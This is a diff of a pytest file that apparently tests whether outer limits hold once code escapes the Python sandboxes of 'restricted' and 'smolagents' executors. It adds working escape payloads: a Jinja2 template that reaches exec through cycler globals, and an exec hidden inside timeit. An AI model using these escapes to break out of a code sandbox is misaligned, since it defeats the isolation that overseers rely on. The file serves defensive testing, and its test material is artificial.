@@ -46,7 +46,18 @@ OTHERWISE = {
     ("restricted", "Y09"): {"exception"},
     ("smolagents", "Y08"): {"policy", "ok"},
 }
-LEFT = "import timeit\ntimeit.timeit({stmt!r}, number=1)\n"
+# Out of each guard, by a module that its session named: a template's expressions are guarded by nobody.
+LEFT = {
+    "restricted": """
+import jinja2
+exec_ = "cycler.__init__.__globals__['__builtins__']['exec']"
+jinja2.Template("{{{{ " + exec_ + "(text, {{'__name__': '__main__'}}) }}}}").render(text={code!r})
+""",
+    "smolagents": """
+import timeit
+timeit.timeit("exec(" + repr({code!r}) + ", {{'__name__': '__main__'}})", number=1)
+""",
+}
 
 
 @pytest.mark.parametrize("way", CODES)
@@ -70,9 +81,9 @@ def test_a_known_way_out_is_refused(arena: Arena, place: str, policy: str, way: 
 def test_the_wall_holds_from_inside_a_bypass(arena: Arena, policy: str, attack: Attack) -> None:
     if arena.mode == "unprivileged" and "only root" in attack.options:
         pytest.skip("needs root: the limit is a cgroup's")
-    stmt = f"exec({attack.code!r}, {{'__name__': '__main__'}})"
+    code = LEFT[policy].format(code=attack.code)
 
-    seen = told(arena.run_in("session", LEFT.format(stmt=stmt), policy, timeout_s=60))
+    seen = told(arena.run_in("session", code, policy, timeout_s=60))
 
     expected = " ".join(sorted({one for some in attack.expected.values() for one in some}))
     note(attack.id, attack.title, expected, list(seen.values()), f"{arena.mode} {policy}")
